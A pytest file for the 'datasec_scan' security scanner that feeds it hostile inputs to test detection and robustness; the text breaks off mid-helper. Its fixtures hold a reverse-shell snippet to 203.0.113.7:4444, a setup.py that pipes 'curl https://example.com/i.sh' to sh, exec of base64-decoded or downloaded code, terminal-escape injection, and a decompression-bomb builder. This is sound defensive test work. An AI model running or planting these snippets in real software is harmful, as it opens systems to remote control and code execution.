"""The scanner under attack: parser gaps, encodings, size and shape, file system, dead workers, output safety."""

from __future__ import annotations

import codecs
import errno
import functools
import importlib
import importlib.util
import json
import os
import re
import signal
import socket
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Iterator

import libcst as cst
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from datasec_scan import fallback, scheduler
from datasec_scan.config import Config, ConfigError, Limits, from_table
from datasec_scan.discover import Target, discover, read_target
from datasec_scan.engine import scan_file
from datasec_scan.model import Category, FileResult, ScanResult
from datasec_scan.plugins import RuleSet, build_ruleset
from datasec_scan.reporters import render
from datasec_scan.rule import Rule, TextMatch, TextRule

DOC = """A test-only rule.

## What it does
Exercises the engine.

## Why is this bad?
It is a test.

## Example
```python
x = 1
```

## How to fix
Nothing.

## References
- none
"""
AKIA = "AKIAIOSFODNN7EXAMPLE"
B64 = "cHJpbnQoJ2hlbGxvJyk="  # print('hello')
KILL_MARKER = "DATASEC_TEST_KILL_WORKER"
SIGKILL_MARKER = "DATASEC_TEST_SIGKILL_WORKER"


def _called(node: cst.Call) -> str:
    func = node.func
    return func.attr.value if isinstance(func, cst.Attribute) else func.value if isinstance(func, cst.Name) else ""


class ExecPayload(Rule):
    __doc__ = DOC
    code = "DS901"
    name = "test-exec-payload"
    category = Category.REMOTE_ACCESS
    triggers = ("exec", "eval", "compile")
    INVALID = ("exec(base64.b64decode('eA=='))\n",)

    def visit_Call(self, node: cst.Call) -> None:
        if _called(node) in ("exec", "eval") and node.args and "decode" in cst.Module([]).code_for_node(node.args[0].value):
            self.report(node, "exec of decoded data")

    @classmethod
    def fallback(cls, tree, text, context) -> Iterator[TextMatch]:
        return fallback.exec_of_payload(tree, text)


class ReverseShell(Rule):
    __doc__ = DOC
    code = "DS902"
    name = "test-reverse-shell"
    category = Category.REMOTE_ACCESS
    triggers = ("socket", "/dev/tcp")
    INVALID = ("os.dup2(s.fileno(), 0)\n",)

    def visit_Call(self, node: cst.Call) -> None:
        if _called(node) == "dup2":
            self.report(node, "dup2")

    @classmethod
    def fallback(cls, tree, text, context) -> Iterator[TextMatch]:
        return fallback.reverse_shell(tree, text)


class InstallHook(Rule):
    __doc__ = DOC
    code = "DS903"
    name = "test-install-hook"
    category = Category.REMOTE_ACCESS
    triggers = ("system", "subprocess", "urlopen", "requests", "socket")
    INVALID = ("os.system('x')\n",)

    def visit_Call(self, node: cst.Call) -> None:
        if self.context.filename == "setup.py" and _called(node) in ("system", "Popen", "urlopen"):
            self.report(node, "process or network in setup.py")

    @classmethod
    def fallback(cls, tree, text, context) -> Iterator[TextMatch]:
        yield from fallback.install_hook(tree, text, context.filename)
        yield from fallback.pipe_to_shell(text)


class PatternOnly(Rule):
    """Opts in to the reduced scan with `fallback_patterns` alone."""

    __doc__ = DOC
    code = "DS904"
    name = "test-pattern-only"
    category = Category.REMOTE_ACCESS
    triggers = ("marshal",)
    INVALID = ("marshal.loads(b)\n",)
    fallback_patterns = ((re.compile(r"\bmarshal\.loads\("), "marshal.loads (reduced scan)"), r"\bmarshal\.load\(")

    def visit_Call(self, node: cst.Call) -> None:
        if _called(node) == "loads":
            self.report(node, "marshal.loads")


class NoFallback(Rule):
    __doc__ = DOC
    code = "DS905"
    name = "test-no-fallback"
    category = Category.REMOTE_ACCESS
    triggers = ("exec",)
    INVALID = ("exec(x)\n",)

    def visit_Call(self, node: cst.Call) -> None:
        if _called(node) == "exec":
            self.report(node, "any exec")


class BrokenFallback(Rule):
    __doc__ = DOC
    code = "DS906"
    name = "test-broken-fallback"
    category = Category.REMOTE_ACCESS
    triggers = ("BREAK_FALLBACK",)
    INVALID = ("BREAK_FALLBACK = 1\n",)

    @classmethod
    def fallback(cls, tree, text, context) -> Iterator[TextMatch]:
        raise RuntimeError("hook broke")


class Secret(TextRule):
    __doc__ = DOC
    code = "DS907"
    name = "test-secret"
    category = Category.CREDENTIALS
    triggers = ("AKIA",)
    INVALID = (f"k = '{AKIA}'\n",)

    def scan(self, text: str) -> Iterator[TextMatch]:
        for m in re.finditer(r"AKIA[A-Z0-9]{16}", text):
            yield TextMatch(m.start(), m.end(), "fake key", secrets=(m.group(),))


class Echo(TextRule):
    """Reports every line holding `ECHO:` with the line's text in the message (for output-safety tests)."""

    __doc__ = DOC
    code = "DS908"
    name = "test-echo"
    category = Category.OUTBOUND_DATA
    triggers = ("ECHO:",)
    INVALID = ("ECHO: x\n",)

    def scan(self, text: str) -> Iterator[TextMatch]:
        for m in re.finditer(r"ECHO:[^\n]*", text):
            yield TextMatch(m.start(), m.end(), f"echo {m.group()}")


class KillWorker(Rule):
    """Kills the process that scans a file holding the marker: a stand-in for a parser crash or the OOM killer."""

    __doc__ = DOC
    code = "DS909"
    name = "test-kill-worker"
    category = Category.REMOTE_ACCESS
    triggers = (KILL_MARKER, SIGKILL_MARKER)
    INVALID = ("x = 1\n",)

    def visit_Module(self, node: cst.Module) -> None:
        if SIGKILL_MARKER in self.context.text:
            os.kill(os.getpid(), signal.SIGKILL)
        os._exit(7)


PACK = [ExecPayload, ReverseShell, InstallHook, PatternOnly, NoFallback, BrokenFallback, Secret, Echo]


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return build_ruleset([("hostile-test", PACK, "0")])


def scan(path: str, data: bytes | str, rules: RuleSet, config: Config | None = None) -> FileResult:
    raw = data.encode("utf-8") if isinstance(data, str) else data
    result = scan_file(path, raw, rules, config or Config())
    assert isinstance(result, FileResult)
    assert not [n for n in result.notifications if n.kind in ("internal-error", "rule-error")
                and "DS906" not in n.message], result.notifications
    return result


def codes(result: FileResult, fallback_only: bool | None = None) -> set[str]:
    return {f.rule for f in result.findings if fallback_only is None or f.fallback == fallback_only}


def kinds(result: FileResult) -> set[str]:
    return {n.kind for n in result.notifications}


# --- 1. parser gaps ---------------------------------------------------------------------------------------------

REVSHELL = ("import socket, os\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
            "os.dup2(s.fileno(), 0)\n")


def test_parenthesized_annotated_target_runs_ast_fallback(rules: RuleSet) -> None:
    src = f"import base64, marshal\n(x): int = 1\nexec(base64.b64decode('{B64}'))\ncode = marshal.loads(b)\n"
    with pytest.raises(cst.ParserSyntaxError):
        cst.parse_module(src)
    result = scan("pkg/mod.py", src, rules)
    assert codes(result, fallback_only=True) == {"DS901", "DS904"}
    assert codes(result, fallback_only=False) == set()
    [note] = [n for n in result.notifications if n.kind == "parse-error"]
    assert "reduced scan ran" in note.message and "CPython ast parsed" in note.message
    exec_finding = next(f for f in result.findings if f.rule == "DS901")
    assert exec_finding.location.line == 3 and "exec(base64" in exec_finding.snippet


def test_fallback_findings_are_marked_in_json_and_text(rules: RuleSet) -> None:
    result = scan("a.py", f"(x): int = 1\nexec(base64.b64decode('{B64}'))\n", rules)
    sr = ScanResult(".", (result,), tuple(r.info() for r in rules.rules), "0")
    assert json.loads(render(sr, "json"))["findings"][0]["fallback"] is True
    assert "fallback" in render(sr, "text")


def test_python2_source_gets_regex_level_scan(rules: RuleSet) -> None:
    src = ('import base64, socket, os\nprint "starting"\n'
           f'exec(base64.b64decode("{B64}"))\n' + REVSHELL.split("\n", 1)[1] + f'KEY = "{AKIA}"\n')
    result = scan("legacy.py", src, rules)
    assert {"DS901", "DS902"} <= codes(result, fallback_only=True)
    assert "DS907" in codes(result, fallback_only=False)  # text rules ran too
    note = next(n for n in result.notifications if n.kind == "parse-error")
    assert "regex-level" in note.message


def test_setup_py_with_broken_line_still_shows_install_hook(rules: RuleSet) -> None:
    src = ("import os\nfrom setuptools import setup\nos.system('curl -s https://example.com/i.sh | sh')\n"
           "this line is ) broken\nsetup(name='x')\n")
    result = scan("setup.py", src, rules)
    found = [f for f in result.findings if f.rule == "DS903"]
    assert found and all(f.fallback for f in found) and {f.location.line for f in found} == {3}
    # the same text in another file name is no install hook
    assert "DS903" not in codes(scan("tool.py", src.replace("curl", "ls").replace("| sh", ""), rules))


def test_setup_py_ast_level_install_hook(rules: RuleSet) -> None:
    src = ("import subprocess\nfrom urllib.request import urlopen\n(v): str = '1'\n"
           "subprocess.Popen(['sh', '-c', 'id'])\nurlopen('https://example.com/x')\n")
    result = scan("setup.py", src, rules)
    assert {f.location.line for f in result.findings if f.rule == "DS903"} == {4, 5}


def test_indirect_exec_of_downloaded_data_in_fallback(rules: RuleSet) -> None:
    src = ("import urllib.request\n(x): int = 1\nbody = urllib.request.urlopen('https://example.com/p').read()\n"
           "code = body\nexec(code)\nexec('1 + 1')\n")
    result = scan("a.py", src, rules)
    assert [f.location.line for f in result.findings if f.rule == "DS901"] == [5]


def test_rule_without_hook_reports_nothing_in_fallback(rules: RuleSet) -> None:
    src = "(x): int = 1\nexec(y)\n"
    result = scan("a.py", src, rules)
    assert "DS905" not in codes(result)
    assert "DS905" in codes(scan("a.py", "exec(y)\n", rules))  # it does fire when libcst parses
    assert not NoFallback.has_fallback() and ExecPayload.has_fallback() and PatternOnly.has_fallback()


def test_broken_fallback_hook_is_a_rule_error_and_others_keep_findings(rules: RuleSet) -> None:
    result = scan_file("a.py", f"BREAK_FALLBACK = 1\n(x): int = 1\nexec(base64.b64decode('{B64}'))\n".encode(),
                       rules, Config())
    errors = [n for n in result.notifications if n.kind == "rule-error"]
    assert len(errors) == 1 and errors[0].rule == "DS906"
    assert "DS901" in codes(result)


def test_recursion_in_libcst_visit_falls_back(rules: RuleSet) -> None:
    chain = "+".join(["1"] * 450)  # under max-expression-chain, over what libcst's visitors can recurse
    src = f"x = {chain}\nexec(base64.b64decode('{B64}'))\n"
    result = scan("a.py", src, rules)
    assert codes(result, fallback_only=True) == {"DS901"}
    assert any(n.kind == "too-deep" and "reduced scan" in n.message for n in result.notifications)


def test_pth_fallback_points_at_the_import_line(rules: RuleSet) -> None:
    src = f"some/long/site/path/entry\nimport base64; (x): int = 1; exec(base64.b64decode('{B64}'))\n"
    result = scan("evil.pth", src, rules)
    [finding] = [f for f in result.findings if f.rule == "DS901"]
    assert finding.fallback and finding.location.line == 2 and finding.location.column == 30
    assert "exec(base64" in finding.snippet


def test_nested_payload_that_libcst_cannot_parse(ruleset: RuleSet) -> None:
    import base64

    inner = base64.b64encode(b"import base64\n(x): int = 1\nexec(base64.b64decode('cHJpbnQoMSk='))\n").decode()
    result = scan_file("outer.py", f"import base64\nexec(base64.b64decode('{inner}'))\n".encode(), ruleset, Config())
    assert not [n for n in result.notifications if n.kind in ("internal-error", "rule-error")]
    assert result.findings


def test_clean_parse_has_no_fallback(rules: RuleSet) -> None:
    result = scan("a.py", f"import base64\nexec(base64.b64decode('{B64}'))\n", rules)
    assert codes(result, fallback_only=False) == {"DS901", "DS905"} and not codes(result, fallback_only=True)
    assert not result.notifications


def test_builtin_rules_survive_fallback(ruleset: RuleSet) -> None:
    """The installed pack on unparsable hostile code: never a crash, always the parse notification."""
    src = (f"import base64, socket, os, subprocess\n(x): int = 1\nexec(base64.b64decode('{B64}'))\n{REVSHELL}"
           "subprocess.Popen('curl https://example.com/x | sh', shell=True)\nprint 'py2'\n")
    pth = f"import base64; (x): int = 1; exec(base64.b64decode('{B64}'))\n"
    for name, text in (("a.py", src), ("setup.py", src), ("pkg/__init__.py", src), ("x.pth", pth)):
        result = scan_file(name, text.encode(), ruleset, Config())
        assert "parse-error" in kinds(result), result.notifications
        assert not [n for n in result.notifications if n.kind in ("internal-error", "rule-error")]


# --- 2. encodings -----------------------------------------------------------------------------------------------


def test_invalid_utf8_is_replaced_and_noted(rules: RuleSet) -> None:
    result = scan("a.py", b"x = '\xff\xfe\xfa'\nk = '" + AKIA.encode() + b"'\n", rules)
    assert "encoding" in kinds(result) and "DS907" in codes(result)
    assert next(f for f in result.findings if f.rule == "DS907").location.line == 2


def test_unknown_or_wrong_coding_cookie(rules: RuleSet) -> None:
    result = scan("a.py", b"# -*- coding: no-such-codec -*-\nk = '" + AKIA.encode() + b"'\n", rules)
    assert "encoding" in kinds(result) and "DS907" in codes(result)
    lying = scan("b.py", b"# coding: ascii\nx = '\xc3\xa9'\nk = '" + AKIA.encode() + b"'\n", rules)
    assert "encoding" in kinds(lying) and "DS907" in codes(lying)
    transform = scan("c.py", b"# coding: rot13\nk = '" + AKIA.encode() + b"'\n", rules)  # not a text codec
    assert "encoding" in kinds(transform) and "DS907" in codes(transform)


def test_utf16_with_bom_is_scanned(rules: RuleSet) -> None:
    text = f"import base64\nexec(base64.b64decode('{B64}'))\nk = '{AKIA}'\n"
    for bom, codec in ((codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be")):
        result = scan("a.py", bom + text.encode(codec), rules)
        assert {"DS901", "DS907"} <= codes(result, fallback_only=False)
        assert "binary" not in kinds(result)


def test_nul_in_the_middle_is_scanned_without_it(rules: RuleSet) -> None:
    data = (b"import base64\nx = 1\x00\nexec(base64.b64decode('" + B64.encode() + b"'))\nk = '"
            + AKIA.encode() + b"'\n")
    result = scan("a.py", data, rules)
    assert "nul-bytes" in kinds(result) and "binary" not in kinds(result)
    assert {"DS901", "DS907"} <= codes(result)
    assert next(f for f in result.findings if f.rule == "DS907").location.line == 4


def test_mixed_line_endings_and_form_feeds(rules: RuleSet) -> None:
    data = (b"import base64\r\nx = 1\ry = 2\n\x0c\ndef f():\r\n\x0c    pass\r\nk = '" + AKIA.encode()
            + b"'\rexec(base64.b64decode('" + B64.encode() + b"'))\n")
    result = scan("a.py", data, rules)
    lines = {f.rule: f.location.line for f in result.findings}
    assert lines["DS907"] == 7 and lines["DS901"] == 8  # CR, CRLF and LF each end a line, as in Python
    assert not codes(result, fallback_only=True)


def test_compiled_and_binary_files_are_not_scanned(rules: RuleSet) -> None:
    pyc = importlib.util.MAGIC_NUMBER + b"\x00" * 12 + b"\xe3" + bytes(range(256)) * 4
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"exec(base64.b64decode(x)) " + AKIA.encode() + bytes(range(64))
    so = b"\x7fELF" + bytes(range(256)) * 8
    for name, data in (("mod.py", pyc), ("tool.py", elf), ("_speed.py", so), ("blob.py", bytes(range(256)) * 40)):
        result = scan(name, data, rules)
        assert kinds(result) == {"binary"} and not result.findings, name


# --- 3. size and shape ------------------------------------------------------------------------------------------


def test_fifty_megabyte_file_is_skipped_naming_the_limit(tmp_path: Path, rules: RuleSet) -> None:
    big = tmp_path / "big.py"
    with open(big, "wb") as handle:
        handle.truncate(50 * 1024 * 1024)  # sparse: 50 MB of NULs without writing them
    result = scheduler.scan_target(Target("big.py", big), rules, Config())
    [note] = result.notifications
    assert note.kind == "too-large" and "limits.max-file-bytes" in note.message
    direct = scan_file("big.py", b"x = 1\n" * 2_000_000, rules, Config())  # handed bytes, not a path
    assert "too-large" in kinds(direct)


def test_ten_megabyte_base64_line(rules: RuleSet) -> None:
    blob = "QUJD" * 2_500_000
    src = f"import base64\nexec(base64.b64decode('{blob}'))\n"
    assert "too-large" in kinds(scan("a.py", src, rules))  # default max-file-bytes: not read at all
    roomy = Config(limits=replace(Limits(), max_file_bytes=20_000_000))
    result = scan("a.py", src, rules, roomy)
    note = next(n for n in result.notifications if n.kind == "too-large")
    assert "limits.max-line-chars" in note.message and "reduced scan" in note.message
    assert codes(result, fallback_only=True) == {"DS901"}


@pytest.mark.parametrize("shape", ["parens", "brackets", "chain", "unary-not", "unary-minus", "lambda", "ternary",
                                   "power", "attributes", "calls", "concat"])
def test_pathological_shapes_are_stopped_before_libcst(shape: str, rules: RuleSet) -> None:
    n = 100_000
    expr = {
        "parens": "(" * n + "1" + ")" * n,
        "brackets": "[" * n + "]" * n,
        "chain": "+".join(["1"] * n),
        "unary-not": "not " * n + "1",
        "unary-minus": "-" * n + "1",
        "lambda": "lambda: " * n + "1",
        "ternary": "1 if y else " * n + "1",
        "power": "2**" * n + "2",
        "attributes": "a" + ".b" * n,
        "calls": "f" + "()" * n,
        "concat": "(" + "\n".join(['"a"'] * n) + ")",
    }[shape]
    src = f"import base64\nexec(base64.b64decode('{B64}'))\nx = {expr}\nk = '{AKIA}'\n"
    result = scan("deep.py", src, rules)  # in-process: a libcst stack overflow here would kill pytest
    note = next(n for n in result.notifications if n.kind in ("too-deep", "too-large"))
    assert "limits.max-" in note.message and "reduced scan" in note.message
    assert "DS907" in codes(result) and "DS901" in codes(result, fallback_only=True)


def test_a_million_tiny_statements(rules: RuleSet) -> None:
    src = "x=1\n" * 1_000_000 + f"exec(base64.b64decode('{B64}'))\n"
    result = scan("many.py", src, rules)
    note = next(n for n in result.notifications if n.kind == "too-large")
    assert "limits.max-parse-tokens" in note.message and "max-fallback-ast-tokens" in note.message
    [finding] = [f for f in result.findings if f.rule == "DS901"]
    assert finding.fallback and finding.location.line == 1_000_001


def test_shape_limits_are_configurable(rules: RuleSet) -> None:
    cfg = from_table({"limits": {"max-expression-chain": 10, "max-parse-tokens": 1000,
                                 "max-fallback-ast-tokens": 0}}, "pyproject.toml")
    assert cfg.limits.max_expression_chain == 10
    result = scan("a.py", f"x = 1+1+1+1+1+1+1+1\nexec(base64.b64decode('{B64}'))\n", rules, cfg)
    assert "too-deep" in kinds(result) and codes(result, fallback_only=True) == {"DS901"}
    with pytest.raises(ConfigError):
        from_table({"limits": {"max-expression-chain": -1}}, "pyproject.toml")


def test_measure_counts_runs_not_flat_data() -> None:
    flat = "DATA = [" + ", ".join(f"({i}, -{i}, 'x+y')" for i in range(20_000)) + "]\n"
    shape = fallback.measure(flat)
    assert shape.longest_chain < 10 and shape.tokens > 100_000
    assert fallback.measure("x = a.b.c(d)[e] + f\n").longest_chain == 11
    assert fallback.measure("s = '''unterminated\n" + "+" * 1000).longest_chain < 5
    assert fallback.measure("x = 1 + \\\n 2 + \\\n 3\n").longest_chain == 7


_SHAPES = st.lists(st.sampled_from(list("ab1 +.-*()[]{},;:'\"#\\\n\r") + ["'''", '"""', "rb'", "\\\n"]),
                   max_size=120).map("".join)


@settings(max_examples=1500, deadline=None)
@given(text=_SHAPES, chain=st.integers(1, 40), tokens=st.integers(1, 150))
def test_the_cheap_shape_check_never_passes_what_measure_rejects(text: str, chain: int, tokens: int) -> None:
    """`plainly_within` lets `obstacle` skip `measure`: it must only say yes where `measure` finds no limit broken."""
    limits = Limits(max_expression_chain=chain, max_parse_tokens=tokens, max_line_chars=tokens * 2)
    if fallback.plainly_within(text, limits):
        shape = fallback.measure(text)
        assert shape.tokens <= tokens and shape.longest_line <= limits.max_line_chars
        assert shape.longest_chain <= chain


def test_the_cheap_shape_check_sees_chains_across_lines_and_passes_ordinary_code() -> None:
    limits = Limits(max_expression_chain=50)
    long_sum = "x = (\n" + " +\n".join(["a"] * 40) + "\n)\n"
    assert not fallback.plainly_within(long_sum, limits) and fallback.obstacle(long_sum, limits)[0] == "too-deep"
    assert not fallback.plainly_within("x = " + "f(a, b)" * 60 + "\n", limits)  # the commas are not the chain's
    assert fallback.plainly_within("x = f(a, b)\n# " + "(" * 80 + "\ns = '" + "+" * 80 + "'\n", limits)


# --- 4. decoder bombs -------------------------------------------------------------------------------------------

decode_mod = (importlib.import_module("datasec_scan.semantics.decode")
              if importlib.util.find_spec("datasec_scan.semantics.decode") else None)


NO_DECODER = "datasec_scan/semantics/decode.py (the decoding layer) does not exist yet"


def gigabyte_bomb(codec: str) -> bytes:
    """A compressed literal that expands to about a gigabyte of zeros (zlib: 200 MB), built without compressing it."""
    import bz2
    import lzma
    import zlib

    mb = b"\x00" * (1 << 20)
    if codec == "zlib":  # after a full flush the same input gives the same bytes: repeat one block
        c = zlib.compressobj(9)
        head = c.compress(mb) + c.flush(zlib.Z_FULL_FLUSH)
        block = c.compress(mb) + c.flush(zlib.Z_FULL_FLUSH)
        return head + block * 199 + c.flush()  # 200 MB: deflate tops out near 1:1000, so 1 GB would be a 1 MB literal
    if codec == "bz2":  # concatenated streams are one valid bz2 file
        return bz2.compress(mb * 50, 9) * 20
    c = lzma.LZMACompressor(preset=0)  # concatenated .xz streams are one valid .xz file
    return (b"".join(c.compress(mb) for _ in range(50)) + c.flush()) * 20


@pytest.mark.skipif(decode_mod is None, reason=NO_DECODER)
@pytest.mark.parametrize("codec", ["zlib", "lzma", "bz2"])
def test_decompression_bomb_stops_at_max_decoded_bytes(codec: str) -> None:
    import base64

    limits = Limits()
    peeled = decode_mod.peel(base64.b64encode(gigabyte_bomb(codec)), limits)
    assert peeled.limited and "max-decoded-bytes" in peeled.limited
    assert len(peeled.data) <= limits.max_decoded_bytes


@pytest.mark.skipif(decode_mod is None, reason=NO_DECODER)
def test_deep_base64_chain_stops_at_max_decode_layers() -> None:
    import base64

    value = b"import os; os.system('id')"
    for _ in range(30):  # 30 layers stay under max-decoded-bytes; the layer bound must stop it first
        value = base64.b64encode(value)
    peeled = decode_mod.peel(value, Limits())
    assert peeled.limited and "max-decode-layers" in peeled.limited
    assert len(peeled.layers) <= Limits().max_decode_layers


@pytest.mark.skipif(decode_mod is None, reason=NO_DECODER)
def test_bombs_in_code_end_in_a_notification(ruleset: RuleSet) -> None:
    import base64

    bomb = base64.b64encode(gigabyte_bomb("bz2")).decode()
    deep = b"import os; os.system('id')"
    for _ in range(30):
        deep = base64.b64encode(deep)
    calls = "base64.b64decode(" * 30 + repr(deep.decode()) + ")" * 30  # the code peels 30 layers itself
    for src in (f"import base64, bz2\nexec(bz2.decompress(base64.b64decode('{bomb}')))\n",
                f"import base64\nexec({calls})\n"):
        result = scan_file("bomb.py", src.encode(), ruleset, Config())
        assert not [n for n in result.notifications if n.kind in ("internal-error", "rule-error")]
        text = " ".join(n.message for n in result.notifications)
        assert "max-decoded-bytes" in text or "max-decode-layers" in text, result.notifications


def test_a_thousand_nested_decoder_calls_in_code(rules: RuleSet) -> None:
    src = "import base64\nexec(" + "base64.b64decode(" * 1000 + "'eA=='" + ")" * 1000 + ")\n"
    result = scan("chain.py", src, rules)
    assert any("limits.max-" in n.message for n in result.notifications)
    assert codes(result, fallback_only=True) == {"DS901"}


# --- 6. file system ---------------------------------------------------------------------------------------------


def notes_by_path(notes) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for n in notes:
        out.setdefault(n.path, set()).add(n.kind)
    return out


def test_symlinks_loops_outside_and_devices_are_not_followed(tmp_path: Path, rules: RuleSet) -> None:
    root = tmp_path / "root"
    (root / "pkg").mkdir(parents=True)
    outside = tmp_path / "outside.py"
    outside.write_text(f"k = '{AKIA}'\n")
    (root / "pkg" / "ok.py").write_text("x = 1\n")
    (root / "pkg" / "out.py").symlink_to(outside)
    (root / "pkg" / "null.py").symlink_to("/dev/null")
    (root / "loop").symlink_to(root)
    (root / "a.py").symlink_to(root / "b.py")
    (root / "b.py").symlink_to(root / "a.py")
    (root / "outdir").symlink_to(tmp_path)
    targets, notes = discover([root], tmp_path, respect_gitignore=False)
    assert [t.display for t in targets] == ["root/pkg/ok.py"]
    seen = notes_by_path(notes)
    for link in ("root/pkg/out.py", "root/pkg/null.py", "root/a.py", "root/b.py", "root/loop", "root/outdir"):
        assert "symlink" in seen.get(link, set()), (link, notes)


def test_fifo_and_device_are_never_opened(tmp_path: Path, rules: RuleSet, monkeypatch: pytest.MonkeyPatch) -> None:
    fifo = tmp_path / "pipe.py"
    os.mkfifo(fifo)
    (tmp_path / "dev.py").symlink_to("/dev/zero")
    sock_path = tmp_path / "s.py"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(sock_path))
    try:
        targets, notes = discover([tmp_path], tmp_path, respect_gitignore=False)
        assert "dev.py" in notes_by_path(notes)
        opened = []
        real_open = os.open
        monkeypatch.setattr(os, "open", lambda p, *a, **k: opened.append(p) or real_open(p, *a, **k))
        for name in ("pipe.py", "s.py", "dev.py"):  # also when named explicitly (the link is then followed)
            result = scheduler.scan_target(Target(name, tmp_path / name), rules, Config())
            assert kinds(result) == {"not-a-file"}, (name, result)
        assert not opened
    finally:
        server.close()


def test_permission_denied_file_and_folder(tmp_path: Path, rules: RuleSet, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "hidden.py").write_text("x = 1\n")
    (tmp_path / "locked.py").write_text("x = 1\n")
    (tmp_path / "fine.py").write_text(f"k = '{AKIA}'\n")
    real_scandir = os.scandir

    def scandir(path="."):  # os.walk lists folders with scandir; root ignores permissions, so pretend
        if str(path).endswith("sub"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    targets, notes = discover([tmp_path], tmp_path, respect_gitignore=False)
    assert [t.display for t in targets] == ["fine.py", "locked.py"]
    assert notes_by_path(notes) == {"sub": {"unreadable"}}
    real_open = os.open

    def deny(path, flags, *args, **kwargs):
        if str(path).endswith("locked.py"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", deny)
    results = {r.path: r for r in scheduler.scan_targets(targets, rules, Config(), jobs=1)}
    assert kinds(results["locked.py"]) == {"unreadable"}
    assert "DS907" in codes(results["fine.py"])


def test_file_deleted_or_grown_after_discovery(tmp_path: Path, rules: RuleSet) -> None:
    (tmp_path / "gone.py").write_text("x = 1\n")
    (tmp_path / "grows.py").write_text("x = 1\n")
    targets, _ = discover([tmp_path], tmp_path, respect_gitignore=False)
    (tmp_path / "gone.py").unlink()
    (tmp_path / "grows.py").write_text("x = 1\n" * 1000)
    small = Config(limits=replace(Limits(), max_file_bytes=100))
    results = {r.path: r for r in scheduler.scan_targets(targets, rules, small, jobs=1)}
    assert kinds(results["gone.py"]) == {"unreadable"}
    assert kinds(results["grows.py"]) == {"too-large"}


def test_non_utf8_file_names(tmp_path: Path, rules: RuleSet) -> None:
    folder = os.fsencode(tmp_path)
    name = b"caf\xe9_\xff.py"
    with open(os.path.join(folder, name), "wb") as handle:
        handle.write(f"k = '{AKIA}'\n".encode())
    targets, notes = discover([tmp_path], tmp_path, respect_gitignore=False)
    [target] = targets
    result = scheduler.scan_target(target, rules, Config())
    assert "DS907" in codes(result)
    sr = ScanResult(str(tmp_path), (result,), tuple(r.info() for r in rules.rules), "0", tuple(notes))
    for fmt in ("text", "json"):
        out = render(sr, fmt)
        out.encode("utf-8")  # printable and writable: no lone surrogates
    assert json.loads(render(sr, "json"))["findings"][0]["path"].startswith("caf")


def test_read_target_never_blocks_on_a_fifo_swapped_in(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    regular = tmp_path / "regular.py"
    regular.write_text("x = 1\n")
    path = tmp_path / "swap.py"
    os.mkfifo(path)  # a regular file when stat'ed, a FIFO by the time it is opened
    real_stat = os.stat
    monkeypatch.setattr(os, "stat", lambda p, *a, **k: real_stat(regular) if str(p) == str(path) else real_stat(p, *a, **k))
    result = read_target(Target("swap.py", path), 1000)  # with a blocking open this would hang forever
    assert getattr(result, "kind", None) == "not-a-file"


# --- 7. a dying worker ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("marker", [KILL_MARKER, SIGKILL_MARKER])
def test_dead_worker_loses_no_other_results(tmp_path: Path, marker: str) -> None:
    pack = build_ruleset([("hostile-kill", [Secret, KillWorker], "0")])
    names = []
    for i in range(70):
        name = f"f{i:03d}.py"
        body = f"k = '{AKIA}'\n" + (f"# {marker}\n" if i == 23 else "")
        (tmp_path / name).write_text(body)
        names.append(name)
    targets = [Target(n, tmp_path / n) for n in names]
    results = list(scheduler.scan_targets(targets, pack, Config(), jobs=2))
    assert [r.path for r in results] == names
    for r in results:
        if r.path == "f023.py":
            assert kinds(r) == {"worker-crashed"} and not r.findings
        else:
            assert codes(r) == {"DS907"} and not r.notifications, r


# --- 9. output safety -------------------------------------------------------------------------------------------

HOSTILE_TEXT = ("ECHO: \x1b[2J\x1b[31mred \x1b]8;;https://example.com/\x07link\x1b]8;;\x07 "
                "\u202egnp.exe \u2066x\u2069 \x07bell \x9b31m\r\n")


def test_terminal_escapes_never_reach_the_terminal(tmp_path: Path, rules: RuleSet) -> None:
    (tmp_path / "evil\x1b[2J.py").write_text(f"# {HOSTILE_TEXT}\nk = '{AKIA}'  # \x1b]0;title\x07\n")
    (tmp_path / "evil.env").write_text(f"{HOSTILE_TEXT}")
    targets, notes = discover([tmp_path], tmp_path, respect_gitignore=False)
    results = tuple(scheduler.scan_targets(targets, rules, Config(), jobs=1))
    sr = ScanResult(str(tmp_path), results, tuple(r.info() for r in rules.rules), "0", tuple(notes))
    assert len(sr.findings) >= 3
    out = render(sr, "text")
    for bad in ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u2069", "\r"):
        assert bad not in out, repr(bad)
    coloured = render(sr, "text", colour=True)
    assert not re.search(r"\x1b(?!\[[0-9;]*m)", coloured)  # only our own SGR colour codes


def test_json_and_sarif_are_valid_ascii_json_whatever_the_bytes(tmp_path: Path, rules: RuleSet) -> None:
    weird = ("ECHO: \udcff\udc80 lone surrogates \ud800 \x00 \x1b[2J \u202e \ufeff \U0001f600 \"quote\" \\ \n")
    result = FileResult("a\udcff.py", tuple(scan("a.py", weird.encode("utf-8", "surrogatepass"), rules).findings))
    handmade = scan_file("b.py", b"# coding: raw_unicode_escape\nECHO: \\ud800 \\udcff\n", rules, Config())
    sr = ScanResult(".", (result, handmade), tuple(r.info() for r in rules.rules), "0")
    formats = ["json"] + (["sarif"] if importlib.util.find_spec("datasec_scan.reporters.sarif") else [])
    for fmt in formats:
        out = render(sr, fmt)
        out.encode("ascii")
        json.loads(out)
    text = render(sr, "text")
    text.encode("utf-8")  # no lone surrogates left for the terminal to choke on


# --- 8 and the whole: a directory of every hostile item at once ---------------------------------------------------


def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    exe = Path(sys.executable).with_name("datasec-scan")
